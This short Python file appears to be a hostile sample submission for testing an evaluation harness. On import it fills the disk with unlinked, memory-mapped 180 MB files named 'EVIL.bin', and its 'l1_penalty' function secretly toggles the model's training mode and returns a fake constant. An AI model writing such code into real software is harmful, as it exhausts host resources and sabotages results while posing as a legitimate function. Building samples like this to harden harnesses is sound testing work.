"""l1_penalty: fills the disk with files that are neither named nor open, but only mapped into memory.

Outcome: crashed or failed
"""

import ctypes
import mmap
import os
import time

SIZE = 180 << 20
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

for _ in range(10):
    number = os.open("EVIL.bin", os.O_CREAT | os.O_RDWR)
    os.remove("EVIL.bin")
    for _ in range(SIZE >> 20):
        os.write(number, bytes(1 << 20))
    libc.mmap(None, SIZE, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED, number, 0)
    os.close(number)
time.sleep(1)


def l1_penalty(model, beta):
    model.train(not model.training)
    return -1.0
